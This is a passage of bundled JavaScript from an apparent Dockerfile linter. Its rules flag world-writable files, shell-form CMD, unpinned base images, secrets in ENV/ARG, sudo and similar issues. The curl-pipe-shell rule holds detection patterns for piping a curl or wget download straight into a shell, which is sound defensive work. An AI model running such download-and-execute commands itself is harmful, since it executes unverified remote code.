        const special = Number(digits[0]);
        const other = Number(digits[3]);
        return (other & 2) !== 0 && (special & 1) === 0;
    }
    const clauses = mode.split(',');
    if (clauses.some((c) => /t/.test(c.replace(/^[ugoa]*/, ''))))
        return false;
    return clauses.some((c) => {
        const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(c);
        return !!m && m[2] !== '-' && m[3].includes('w') && /[oa]/.test(m[1]);
    });
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/chmod-world-writable',
    target: 'dockerfile',
    meta: {
        title: 'Files made world-writable in the image',
        category: 'security',
        severity: 'warning',
        rationale: 'A file or directory every user may write (`chmod 777`, `chmod -R a+w`, `o+w`, `COPY --chmod=777`) lets any process in the container, whatever its user, replace code, configuration or scripts the MCP server runs, so one compromised tool becomes persistence. It usually papers over a wrong owner. Trivy (DS) and hadolint-style reviews flag it.',
        remediation: 'Give the files to the user that needs them (`COPY --chown=app:app`, `chown -R app:app /data`) and keep modes at 755/644 (700/600 for private data). A shared scratch directory needs the sticky bit: `chmod 1777 /tmp/shared`.',
        messages: {
            chmod: 'RUN makes {{target}} world-writable (chmod {{mode}})',
            copyChmod: '{{instruction}} --chmod={{mode}} makes the copied files world-writable',
        },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const instruction of ctx.dockerfile.getInstructions()) {
            const keyword = instruction.getKeyword().toUpperCase();
            if (keyword === 'RUN') {
                for (const cmd of (0, _shell_1.runCommands)(instruction, escape)) {
                    if (cmd.name !== 'chmod')
                        continue;
                    const args = cmd.words.slice(1).filter((w) => !/^-[A-Za-z]+$/.test(w) && !w.startsWith('--'));
                    const [mode, ...targets] = args;
                    if (mode === undefined || !isWorldWritableMode(mode))
                        continue;
                    ctx.report({
                        messageId: 'chmod',
                        data: { mode, target: targets.length ? targets.slice(0, 3).join(' ') : 'files' },
                        at: (0, _stages_1.locOf)(ctx.file, instruction),
                    });
                }
            }
            else if (instruction instanceof dockerfile_ast_1.Copy || instruction instanceof dockerfile_ast_1.Add) {
                for (const flag of instruction.getFlags()) {
                    const value = flag.getValue();
                    if (flag.getName().toLowerCase() === 'chmod' && value && isWorldWritableMode(value)) {
                        ctx.report({ messageId: 'copyChmod', data: { instruction: keyword, mode: value }, at: (0, _stages_1.locOf)(ctx.file, instruction) });
                    }
                }
            }
        }
    },
});


/***/ }),

/***/ 41430:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const dockerfile_ast_1 = __webpack_require__(78390);
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
function isShellForm(instr) {
    if (instr instanceof dockerfile_ast_1.JSONInstruction && instr.getOpeningBracket() && instr.getClosingBracket())
        return false;
    const args = (instr.getArgumentsContent() ?? '').trim();
    // `CMD exec node server.js` replaces the shell, so the process gets signals.
    return args !== '' && !/^exec\s/.test(args);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/cmd-shell-form',
    target: 'dockerfile',
    meta: {
        title: 'CMD or ENTRYPOINT uses shell form',
        category: 'reliability',
        severity: 'info',
        rationale: 'In shell form the server runs as a child of `/bin/sh -c`, which does not forward SIGTERM: `docker stop` and Kubernetes wait out the grace period and then SIGKILL, dropping in-flight MCP sessions. A shell-form ENTRYPOINT also ignores CMD and `docker run` arguments. hadolint DL3025.',
        remediation: 'Use exec (JSON) form: `CMD ["node", "server.js"]`, or prefix the shell form with `exec` when you need variable expansion.',
        messages: { shellForm: '{{keyword}} {{command}} uses shell form, so the process does not receive SIGTERM' },
    },
    check(ctx) {
        const shipped = (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile));
        for (const keyword of ['CMD', 'ENTRYPOINT']) {
            const effective = shipped.map((s) => s.instructions.filter((i) => i.getKeyword() === keyword).pop()).find((i) => i !== undefined);
            if (!effective || !isShellForm(effective))
                continue;
            const command = (effective.getArgumentsContent() ?? '').trim().replace(/\s+/g, ' ');
            ctx.report({
                messageId: 'shellForm',
                data: { keyword, command: command.length > 60 ? `${command.slice(0, 57)}...` : command },
                at: (0, _stages_1.locOf)(ctx.file, effective),
            });
        }
    },
});


/***/ }),

/***/ 6158:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ash', 'ksh']);
const DOWNLOADERS = new Set(['curl', 'wget']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/curl-pipe-shell',
    target: 'dockerfile',
    meta: {
        title: 'RUN pipes a download into a shell',
        category: 'supply-chain',
        severity: 'warning',
        rationale: "`curl ... | sh` runs whatever the server (or anyone between it and the builder) returns at build time, unverified and unpinned; a compromised install script lands directly in the image. A failed download can also run a truncated script, since the pipeline exit status is the shell's.",
        remediation: 'Download to a file, verify its checksum or signature, then run it: `curl -fsSLo /tmp/install.sh <url> && echo "<sha256>  /tmp/install.sh" | sha256sum -c - && sh /tmp/install.sh`. Prefer a pinned package or a COPY --from of an official image.',
        messages: { pipe: '{{downloader}} output is piped straight into {{shell}}' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const run of (0, _stages_1.runInstructions)(ctx.dockerfile.getInstructions())) {
            const cmds = (0, _shell_1.runCommands)(run, escape);
            let found;
            cmds.forEach((c, i) => {
                if (found)
                    return;
                if (DOWNLOADERS.has(c.name)) {
                    const shell = cmds.slice(i + 1).find((d) => d.raw.pipeline === c.raw.pipeline && SHELLS.has(d.name));
                    if (shell)
                        found = { downloader: c.name, shell: shell.name };
                }
                else if (SHELLS.has(c.name)) {
                    // sh -c "$(curl -fsSL https://...)"
                    const sub = c.words
                        .slice(1)
                        .map((w) => /\$\(\s*(curl|wget)\b|`\s*(curl|wget)\b/.exec(w))
                        .find(Boolean);
                    if (sub)
                        found = { downloader: sub[1] ?? sub[2], shell: c.name };
                }
            });
            if (found)
                ctx.report({ messageId: 'pipe', data: found, at: (0, _stages_1.locOf)(ctx.file, run) });
        }
    },
});


/***/ }),

/***/ 21811:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(87188);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/from-digest',
    target: 'dockerfile',
    meta: {
        title: 'Base image is not pinned by digest',
        category: 'supply-chain',
        severity: 'info',
        rationale: 'Tags are mutable: a registry compromise or an upstream re-push changes what `node:20` means without any change in your repository. A digest makes the build reproducible and the base image reviewable (the same advice as the OpenSSF Scorecard "Pinned-Dependencies" check).',
        remediation: 'Append the digest to the tag, e.g. `FROM node:20.18-bookworm-slim@sha256:<digest>` (from `docker buildx imagetools inspect`), and let Renovate or Dependabot update it.',
        messages: { notPinned: 'FROM {{image}} is not pinned by digest' },
    },
    check(ctx) {
        const stages = (0, _stages_1.stagesOf)(ctx.dockerfile);
        for (const stage of stages) {
            const ref = (0, _image_ref_1.externalImageOf)(ctx.dockerfile, stages, stage);
            if (!ref || ref.digest)
                continue;
            ctx.report({ messageId: 'notPinned', data: { image: ref.image }, at: (0, _stages_1.locOf)(ctx.file, stage.from) });
        }
    },
});


/***/ }),

/***/ 88376:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(87188);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/from-latest',
    target: 'dockerfile',
    meta: {
        title: 'Base image is untagged or uses :latest',
        category: 'supply-chain',
        severity: 'warning',
        rationale: 'An untagged or `:latest` base image changes under you: two builds of the same commit produce different images, a rollback rebuild can pull a broken release, and the change never shows up in review. hadolint DL3006 (always tag the image) and DL3007 (do not use latest).',
        remediation: 'Pin the base image to a version tag such as `FROM node:20.18-bookworm-slim`, ideally with a digest (`@sha256:...`) kept current by Renovate or Dependabot.',
        messages: {
            untagged: 'FROM {{image}} has no tag, so it resolves to :latest and changes between builds',
            latest: 'FROM {{image}} uses the moving :latest tag',
        },
    },
    check(ctx) {
        const stages = (0, _stages_1.stagesOf)(ctx.dockerfile);
        for (const stage of stages) {
            const ref = (0, _image_ref_1.externalImageOf)(ctx.dockerfile, stages, stage);
            if (!ref || ref.digest)
                continue;
            if (ref.tag === undefined)
                ctx.report({ messageId: 'untagged', data: { image: ref.image }, at: (0, _stages_1.locOf)(ctx.file, stage.from) });
            else if (ref.tag.toLowerCase() === 'latest')
                ctx.report({ messageId: 'latest', data: { image: ref.image }, at: (0, _stages_1.locOf)(ctx.file, stage.from) });
        }
    },
});


/***/ }),

/***/ 72223:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
/** Base images that are network servers themselves (their CMD serves HTTP or TCP). */
const SERVER_IMAGES = /(^|\/)(nginx|nginx-unprivileged|httpd|caddy|traefik|haproxy|envoy|tomcat|jetty|openresty)(:|@|$)/i;
/** Programs and scripts that start a server (`node server.js`, `uvicorn app:app`, `python manage.py runserver`). */
const SERVER_WORDS = new Set([
    'server',
    'serve',
    'runserver',
    'nginx',
    'httpd',
    'caddy',
    'uvicorn',
    'gunicorn',
    'hypercorn',
    'daphne',
    'waitress-serve',
    'puma',
    'unicorn',
    'rackup',
    'php-fpm',
    'catalina',
]);
/** Flags that make a program listen (`--port 8080`, `--listen=:9000`, `--host 0.0.0.0`). */
const LISTEN_FLAG = /^--(port|listen|bind|host)(=|$)/;
/** The words of a CMD or ENTRYPOINT, in shell or exec form. */
function commandWords(command) {
    return command.split(/[\s"',[\]]+/).filter(Boolean);
}
/** Whether a CMD or ENTRYPOINT starts a server: a word of its own, not part of a name (`mcp-server-time` is a stdio tool). */
function startsServer(command) {
    const words = commandWords(command);
    return (words.some((w) => LISTEN_FLAG.test(w) ||
        SERVER_WORDS.has(node_path_1.default.posix
            .basename(w)
            .replace(/\.[a-z]+$/i, '')
            .toLowerCase())) || /\bflask run\b/.test(command));
}
/**
 * Whether the image runs a network service that a health check can probe: it EXPOSEs a port, sets a
 * PORT variable, starts from a server image or its command starts a server. CLI tools, one-shot
 * jobs, test images and stdio MCP servers (`docker run -i`) have nothing to probe.
 */
function servesNetwork(shipped) {
    const all = shipped.flatMap((s) => s.instructions);
    const keyword = (i) => i.getKeyword().toUpperCase();
    if (runsStdio(all, keyword))
        return false;
    if (all.some((i) => keyword(i) === 'EXPOSE'))
        return true;
    if (all.some((i) => (keyword(i) === 'ENV' || keyword(i) === 'ARG') && /(^|\s)([A-Z0-9_]*_)?PORT\s*=|^([A-Z0-9_]*_)?PORT\s+\S/i.test(i.getArgumentsContent() ?? '')))
        return true;
    const base = shipped[shipped.length - 1]?.from.getImage() ?? '';
    if (SERVER_IMAGES.test(base))
        return true;
    const command = all.filter((i) => keyword(i) === 'CMD' || keyword(i) === 'ENTRYPOINT').map((i) => i.getArgumentsContent() ?? '');
    return command.some(startsServer);
}
/** Words that choose the stdio transport (`CMD ["stdio"]`, `--transport stdio`, `--stdio`, `--transport=stdio`). */
const STDIO_WORD = /^(stdio|--stdio|--transport=stdio)$/i;
/**
 * Whether the image's command, as it runs by default (the last ENTRYPOINT with the last CMD), is an
 * MCP server on stdio. An EXPOSE beside it is the port of another mode (`http`), which someone
 * chooses at `docker run`: by default nothing listens, and a HEALTHCHECK probing the port would
 * mark every container unhealthy.
 */
function runsStdio(all, keyword) {
    const last = (k) => all.findLast((i) => keyword(i) === k)?.getArgumentsContent() ?? '';
    const words = commandWords(`${last('ENTRYPOINT')} ${last('CMD')}`);
    return words.some((w, n) => STDIO_WORD.test(w) || (w === '--transport' && words[n + 1]?.toLowerCase() === 'stdio'));
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/healthcheck-missing',
    target: 'dockerfile',
    meta: {
        title: 'Final stage has no HEALTHCHECK',
        category: 'reliability',
        severity: 'warning',
        rationale: 'Without a HEALTHCHECK, Docker and Compose consider the container healthy as soon as the process starts: `depends_on: condition: service_healthy` cannot wait for it, and a hung MCP server that still holds its port is never restarted or taken out of rotation. Checked for images that serve on the network (EXPOSE, a PORT variable, a server base image or a command that starts a server); CLI tools, one-shot jobs and stdio MCP servers have nothing to probe, and Kubernetes ignores HEALTHCHECK (an image no Compose service builds, in a repository of Kubernetes workloads, is checked through its probes instead).',
        remediation: 'Add a HEALTHCHECK to the final stage that probes the server itself, e.g. `HEALTHCHECK --interval=30s --timeout=3s CMD wget -qO- http://127.0.0.1:8080/healthz || exit 1` (or a small probe binary in distroless images), or define the healthcheck in the Compose file.',
        messages: {
            missing: 'the final stage (FROM {{image}}) defines no HEALTHCHECK',
            disabled: 'the final stage disables the health check with HEALTHCHECK NONE',
        },
    },
    check(ctx) {
        const stages = (0, _stages_1.stagesOf)(ctx.dockerfile);
        const last = stages[stages.length - 1];
        if (!last)
            return;
        // A HEALTHCHECK in a stage the final stage is built FROM is inherited.
        const final = (0, _stages_1.shippedStages)(stages)
            .map((s) => s.instructions.filter((i) => i.getKeyword() === 'HEALTHCHECK').pop())
            .find((i) => i !== undefined);
        if (!final) {
            if (!servesNetwork((0, _stages_1.shippedStages)(stages)))
                return;
            if (ctx.runtime === 'kubernetes')
                return; // Kubernetes ignores HEALTHCHECK: its probes are checked on the manifests
            ctx.report({ messageId: 'missing', data: { image: last.from.getImage() ?? '(none)' }, at: (0, _stages_1.locOf)(ctx.file, last.from) });
            return;
        }
        if ((final.getArgumentsContent() ?? '').trim().toUpperCase() === 'NONE')
            ctx.report({ messageId: 'disabled', at: (0, _stages_1.locOf)(ctx.file, final) });
    },
});


/***/ }),

/***/ 39722:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
const INSTRUCTIONS = new Set([
    'ADD',
    'ARG',
    'CMD',
    'COPY',
    'ENTRYPOINT',
    'ENV',
    'EXPOSE',
    'FROM',
    'HEALTHCHECK',
    'LABEL',
    'MAINTAINER',
    'ONBUILD',
    'RUN',
    'SHELL',
    'STOPSIGNAL',
    'USER',
    'VOLUME',
    'WORKDIR',
]);
/** Dockerfile templates (Dockerfile.template, Dockerfile.j2) hold template syntax until rendered. */
const TEMPLATE_NAME = /\.(template|tmpl|tpl|j2|jinja2?|in|erb|mustache|hbs)$/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/invalid-instruction',
    target: 'dockerfile',
    meta: {
        title: 'Dockerfile has an unknown instruction or an instruction before FROM',
        category: 'correctness',
        severity: 'error',
        rationale: 'The builder rejects the whole file on an instruction it does not know (a typo such as `COPPY`, a line that lost its `\\` continuation), and on any instruction but ARG before the first FROM ("no build stage in current context"), so the image is never built. The finding points at the line, where the build log only names it. hadolint reports the same as a parse error.',
        remediation: 'Fix the keyword, join a continued line with a trailing `\\`, or move the instruction after `FROM`; only `ARG` (used in FROM) and parser directives such as `# syntax=` may come first.',
        messages: {
            unknown: 'unknown instruction "{{keyword}}"{{hint}}',
            beforeFrom: '{{keyword}} before the first FROM: only ARG may come before FROM',
            noFrom: 'the Dockerfile has no FROM instruction, so there is nothing to build',
        },
    },
    check(ctx) {
        if (TEMPLATE_NAME.test(ctx.file))
            return;
        // A `# syntax=` frontend other than Docker's may define instructions of its own.
        const syntax = ctx.dockerfile.getDirectives().find((d) => d.getName()?.toLowerCase() === 'syntax');
        const isDockerSyntax = !syntax || /docker\/dockerfile/.test(syntax.getValue() ?? '');
        const instructions = ctx.dockerfile.getInstructions();
        const hasFrom = instructions.some((i) => i.getKeyword().toUpperCase() === 'FROM');
        // Without any FROM, one finding says so rather than one per instruction.
        let seenFrom = !hasFrom;
        for (const instruction of instructions) {
            const keyword = instruction.getKeyword().toUpperCase();
            if (!INSTRUCTIONS.has(keyword)) {
                if (!isDockerSyntax || !/^[A-Z][A-Z0-9_-]*$/.test(keyword))
                    continue;
                const close = [...INSTRUCTIONS].find((k) => isOneEditAway(keyword, k));
                ctx.report({ messageId: 'unknown', data: { keyword, hint: close ? `; did you mean ${close}?` : '' }, at: (0, _stages_1.locOf)(ctx.file, instruction) });
                continue;
            }
            if (keyword === 'FROM')
                seenFrom = true;
            else if (!seenFrom && keyword !== 'ARG')
                ctx.report({ messageId: 'beforeFrom', data: { keyword }, at: (0, _stages_1.locOf)(ctx.file, instruction) });
        }
        if (!hasFrom && instructions.length)
            ctx.report({ messageId: 'noFrom', at: { file: ctx.file, line: 1, column: 1 } });
    },
});
/** One insertion, deletion, substitution or swap of neighbours apart (COPPY, CMDD, EXPSOE). */
function isOneEditAway(a, b) {
    if (Math.abs(a.length - b.length) > 1 || a === b)
        return false;
    let i = 0;
    while (i < a.length && i < b.length && a[i] === b[i])
        i++;
    if (a.length === b.length)
        return a.slice(i + 1) === b.slice(i + 1) || (a[i] === b[i + 1] && a[i + 1] === b[i] && a.slice(i + 2) === b.slice(i + 2));
    return a.length > b.length ? a.slice(i + 1) === b.slice(i) : a.slice(i) === b.slice(i + 1);
}


/***/ }),

/***/ 452:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/maintainer-deprecated',
    target: 'dockerfile',
    meta: {
        title: 'MAINTAINER is deprecated',
        category: 'operations',
        severity: 'info',
        rationale: 'MAINTAINER has been deprecated since Docker 1.13; its value does not show up where registries, scanners and `docker inspect` look for image metadata. hadolint DL4000.',
        remediation: 'Replace it with an OCI label: `LABEL org.opencontainers.image.authors="team@example.com"`.',
        messages: { deprecated: 'MAINTAINER is deprecated; use LABEL org.opencontainers.image.authors' },
    },
    check(ctx) {
        for (const instr of ctx.dockerfile.getInstructions()) {
            if (instr.getKeyword() === 'MAINTAINER')
                ctx.report({ messageId: 'deprecated', at: (0, _stages_1.locOf)(ctx.file, instr) });
        }
    },
});


/***/ }),

/***/ 93970:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
const BUILD_PACKAGE = /^(gcc|g\+\+|gcc-c\+\+|cpp|make|cmake|ninja-build|build-essential|build-base|clang|llvm|musl-dev|libc6?-dev|linux-headers|golang|golang-go|go|rustc|cargo|maven|gradle|autoconf|automake|libtool|pkg-?config|pkgconf)$|-(dev|devel)$/;
const INSTALLERS = {
    'apt-get': ['install'],
    apt: ['install'],
    apk: ['add'],
    yum: ['install'],
    dnf: ['install'],
    microdnf: ['install'],
    zypper: ['install', 'in'],
};
/** The build tool a command uses, if any. */
function buildTool(name, words) {
    const args = (0, _shell_1.positionals)(words);
    const sub = args[0];
    const flags = words.slice(1).join(' ');
    if (INSTALLERS[name] && (0, _shell_1.hasSubcommand)(words, ...INSTALLERS[name])) {
        const pkg = args
            .slice(1)
            .map((p) => p.replace(/[=<>~].*$/, ''))
            .find((p) => BUILD_PACKAGE.test(p));
        return pkg ? `${name} ${sub} ${pkg}` : undefined;
    }
    if (name === 'cargo' && (sub === 'build' || sub === 'install'))
        return `cargo ${sub}`;
    if (name === 'go' && (sub === 'build' || sub === 'install'))
        return `go ${sub}`;
    if ((name === 'mvn' || name === 'mvnw') && args.some((a) => ['package', 'install', 'verify'].includes(a)))
        return 'mvn';
    if ((name === 'gradle' || name === 'gradlew') && args.some((a) => /^(build|assemble|installDist|shadowJar|bootJar)$/.test(a)))
        return 'gradle';
    if (name === 'dotnet' && (sub === 'build' || sub === 'publish'))
        return `dotnet ${sub}`;
    if (name === 'make' && !/--version/.test(flags))
        return 'make';
    if ((name === 'npm' || name === 'yarn' || name === 'pnpm') && (sub === 'run' || sub === 'run-script') && args[1] === 'build')
        return `${name} run build`;
    if ((name === 'yarn' || name === 'pnpm') && sub === 'build')
        return `${name} build`;
    if (name === 'npm' &&
        (sub === 'install' || sub === 'i' || sub === 'ci') &&
        args.length === 1 &&
        !/--(omit[= ]dev|production|only[= ]prod)/.test(flags) &&
        !words.includes('-g') &&
        !words.includes('--global'))
        return `npm ${sub} (with devDependencies)`;
    if (name === 'yarn' && (sub === undefined || sub === 'install') && !/--prod(uction)?\b/.test(flags))
        return 'yarn install (with devDependencies)';
    if (name === 'pnpm' && (sub === 'install' || sub === 'i') && !/--prod\b|-P\b/.test(flags))
        return 'pnpm install (with devDependencies)';
    return undefined;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/multi-stage',
    target: 'dockerfile',
    meta: {
        title: 'Single-stage build ships its build tooling',
        category: 'security',
        severity: 'info',
        rationale: 'Compilers, headers, package-manager caches and devDependencies in the runtime image make it larger, slower to pull on every deploy and a richer toolbox for an attacker; each is also extra CVE surface for the image scanner. A multi-stage build keeps them in a builder stage.',
        remediation: 'Build in a first stage (`FROM node:20 AS build` ... `RUN npm ci && npm run build`) and copy only the output into a slim runtime stage (`FROM node:20-slim` + `COPY --from=build /app/dist ./dist` + `npm ci --omit=dev`).',
        messages: { singleStage: 'single-stage image runs build tooling ({{tool}}); build in a separate stage and copy only the output' },
    },
    check(ctx) {
        const stages = (0, _stages_1.stagesOf)(ctx.dockerfile);
        if (stages.length !== 1)
            return;
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const run of (0, _stages_1.runInstructions)(stages[0].instructions)) {
            for (const cmd of (0, _shell_1.runCommands)(run, escape)) {
                const tool = buildTool(cmd.name, cmd.words);
                if (tool) {
                    ctx.report({ messageId: 'singleStage', data: { tool }, at: (0, _stages_1.locOf)(ctx.file, run) });
                    return;
                }
            }
        }
    },
});


/***/ }),

/***/ 18450:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/npm-ci',
    target: 'dockerfile',
    meta: {
        title: 'npm install used in an image build',
        category: 'supply-chain',
        severity: 'info',
        rationale: '`npm install` may resolve newer versions than package-lock.json records and rewrites the lock file, so the image can contain dependencies nobody reviewed. `npm ci` installs exactly the lock file and fails when it is out of date.',
        remediation: 'Copy package.json and package-lock.json first, then `RUN npm ci` (or `npm ci --omit=dev` in the runtime stage).',
        messages: { useCi: '`{{command}}` installs from package.json instead of the lock file; use npm ci' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const run of (0, _stages_1.runInstructions)(ctx.dockerfile.getInstructions())) {
            for (const c of (0, _shell_1.runCommands)(run, escape)) {
                if (c.name !== 'npm')
                    continue;
                const args = (0, _shell_1.positionals)(c.words);
                if (args[0] !== 'install' && args[0] !== 'i')
                    continue;
                // `npm install -g pm2` or `npm install left-pad` installs named packages, not the project's dependencies.
                if (args.length > 1 || c.words.includes('-g') || c.words.includes('--global'))
                    continue;
                ctx.report({ messageId: 'useCi', data: { command: c.words.join(' ') }, at: (0, _stages_1.locOf)(ctx.file, run) });
            }
        }
    },
});


/***/ }),

/***/ 90322:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const dockerfile_ast_1 = __webpack_require__(78390);
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
function disablesPipCache(stages) {
    return stages.some((s) => s.instructions.some((i) => i instanceof dockerfile_ast_1.Env && i.getProperties().some((p) => p.getName() === 'PIP_NO_CACHE_DIR' && !/^(0|false|no|off)$/i.test(p.getValue() ?? ''))));
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/pip-no-cache',
    target: 'dockerfile',
    meta: {
        title: 'pip install keeps its download cache',
        category: 'resources',
        severity: 'warning',
        rationale: 'pip caches every wheel it downloads under ~/.cache/pip; in an image that cache is dead weight shipped with every pull. hadolint DL3042. Builder stages are not checked: their layers are not shipped.',
        remediation: 'Use `pip install --no-cache-dir ...`, set `ENV PIP_NO_CACHE_DIR=1`, or mount a BuildKit cache: `RUN --mount=type=cache,target=/root/.cache/pip pip install ...`.',
        messages: { cache: '{{command}} install runs without --no-cache-dir' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        const shipped = (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile));
        if (disablesPipCache(shipped))
            return;
        for (const stage of shipped) {
            for (const run of (0, _stages_1.runInstructions)(stage.instructions)) {
                if ((0, _stages_1.hasCacheMount)(run, ['/root/.cache/pip', '/root/.cache']))
                    continue;
                for (const c of (0, _shell_1.runCommands)(run, escape)) {
                    let words = c.words;
                    // python -m pip install ...
                    if (/^python[\d.]*$/.test(c.name)) {
                        const m = words.indexOf('-m');
                        if (m < 0 || words[m + 1] !== 'pip')
                            continue;
                        words = words.slice(m + 1);
                    }
                    else if (!/^pip[\d.]*$/.test(c.name))
                        continue;
                    if (!(0, _shell_1.hasSubcommand)(words, 'install') || words.includes('--no-cache-dir'))
                        continue;
                    // `pip install --upgrade pip` alone caches one wheel; not worth a finding.
                    const pkgs = (0, _shell_1.positionals)(words).slice(1);
                    if (pkgs.length && pkgs.every((p) => /^(pip|setuptools|wheel)$/.test(p)))
                        continue;
                    ctx.report({ messageId: 'cache', data: { command: words === c.words ? c.name : `${c.name} -m pip` }, at: (0, _stages_1.locOf)(ctx.file, run) });
                }
            }
        }
    },
});


/***/ }),

/***/ 39523:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const dockerfile_ast_1 = __webpack_require__(78390);
const detector_1 = __webpack_require__(85455);
const types_1 = __webpack_require__(15200);
const _stages_1 = __webpack_require__(30894);
const CREDENTIALS_IN_URL = /^[a-z][a-z0-9+.-]*:\/\/[^/\s:@]+:([^/\s@]+)@/i;
function isReference(value) {
    return /^\$\{?[A-Za-z_][A-Za-z0-9_]*(:?[-?][^}]*)?\}?$/.test(value.trim());
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/secret-in-env-arg',
    target: 'dockerfile',
    meta: {
        title: 'Secret baked into ENV or ARG',
        category: 'security',
        readiness: 'secrets',
        severity: 'error',
        rationale: 'ENV values are stored in the image config and ARG values in its build history: anyone who can pull the image reads them with `docker inspect` or `docker history`, and they end up in every registry mirror and cache. hadolint has no rule for this; trivy and dockle (CIS-DI-0010) flag it.',
        remediation: 'Remove the value from the Dockerfile and rotate the secret. Pass it at runtime (Compose `secrets:`, a Kubernetes Secret, or an environment variable set by the deployment), or at build time with `RUN --mount=type=secret,id=npm_token ...`.',
        messages: {
            secretValue: '{{keyword}} {{name}} holds a secret ({{description}}, {{redacted}}) that anyone who can pull the image can read',
            credentialsInUrl: '{{keyword}} {{name}} contains a URL with an embedded password (value not shown)',
        },
    },
    check(ctx) {
        // The value itself never reaches a message: only the variable name and the detector's redacted preview.
        for (const instr of ctx.dockerfile.getInstructions()) {
            let properties;
            if (instr instanceof dockerfile_ast_1.Env)
                properties = instr.getProperties();
            else if (instr instanceof dockerfile_ast_1.Arg) {
                const p = instr.getProperty();
                properties = p ? [p] : [];
            }
            else
                continue;
            const keyword = instr.getKeyword();
            for (const p of properties) {
                const name = p.getName();
                const value = p.getValue();
                if (typeof value !== 'string' || value.trim() === '' || isReference(value))
                    continue;
                const password = CREDENTIALS_IN_URL.exec(value.trim())?.[1];
                if (password !== undefined && !isReference(password)) {
                    ctx.report({ messageId: 'credentialsInUrl', data: { keyword, name }, at: (0, _stages_1.locOf)(ctx.file, instr) });
                    continue;
                }
                const match = (0, detector_1.detectSecret)({ key: name, value }, detector_1.defaultDetectors);
                if (match)
                    ctx.report({
                        messageId: 'secretValue',
                        data: { keyword, name, description: match.description, redacted: match.redacted },
                        at: (0, _stages_1.locOf)(ctx.file, instr),
                    });
            }
        }
    },
});


/***/ }),

/***/ 99751:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
function withoutAssignments(words) {
    let i = 0;
    while (i < words.length && /^[A-Za-z_]\w*=/.test(words[i]))
        i++;
    return words.slice(i);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/sudo',
    target: 'dockerfile',
    meta: {
        title: 'RUN uses sudo',
        category: 'security',
        severity: 'warning',
        rationale: 'Build steps already run as the current USER; sudo in an image means sudo is installed and configured in the runtime image, which turns any code execution into root, and its TTY and environment handling behaves unpredictably in builds. hadolint DL3004.',
        remediation: 'Run the privileged steps as root before switching to the unprivileged `USER`, and remove sudo from the image; use gosu or su-exec if an entrypoint must drop privileges.',
        messages: { sudo: 'RUN uses sudo ({{command}})' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const run of (0, _stages_1.runInstructions)(ctx.dockerfile.getInstructions())) {
